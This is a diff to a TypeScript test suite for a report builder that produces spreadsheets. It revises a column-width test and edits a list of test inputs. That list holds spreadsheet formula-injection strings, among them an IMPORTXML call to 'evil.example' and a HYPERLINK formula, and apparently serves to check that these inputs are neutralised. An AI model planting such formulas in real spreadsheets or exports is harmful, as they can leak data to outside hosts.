@@ -17,7 +17,7 @@ import {
   PERSONAL_DATA,
 } from './fixtures';
 import { matchesSummaryValue, SheetGrid } from './sheetGrid';
-import { rowHeightForLines, textWidth, wrappedLines } from '../../../src/core/report/textMetrics';
+import { headerWidth, rowHeightForLines, wrappedLines } from '../../../src/core/report/textMetrics';
 
 const CASES: [string, () => FunnelSummary, FunnelSettings][] = [
   ['every tab kind, Japanese', fullSummary, JAPANESE_SETTINGS],
@@ -262,7 +262,7 @@ describe('buildReportModel', () => {
       }
     });
 
-    it('makes every column at least as wide as its header texts need (full-width glyphs counting double)', () => {
+    it('makes every column wide enough for its header texts in at most three lines (full-width glyphs counting double)', () => {
       for (const sheet of model.sheets) {
         for (const block of sheet.blocks) {
           block.rowRoles.forEach((role, rowIndex) => {
@@ -271,7 +271,8 @@ describe('buildReportModel', () => {
               if (cell.kind !== 'text') return;
               const column = block.column + columnIndex;
               const text = cell.value.replace(/^'/, '');
-              expect([sheet.role, text, (sheet.columnWidths[column - 1] ?? 100) >= textWidth(text)]).toEqual([sheet.role, text, true]);
+              const width = sheet.columnWidths[column - 1] ?? 100;
+              expect([sheet.role, text, width >= headerWidth(text), wrappedLines(text, width) <= 3]).toEqual([sheet.role, text, true, true]);
             });
           });
         }
@@ -343,7 +344,7 @@ describe('buildReportModel', () => {
         '=IMPORTXML("http://evil.example","//a")',
         '=1+1',
         '-20',
-        '目標: =SUM(A1)',
+        '=SUM(A1)目標',
         '=HYPERLINK("http://x","y") の商談化率が全体と大きく違います。',
         ...HOSTILE_NAMES.slice(0, 4),
       ]) {
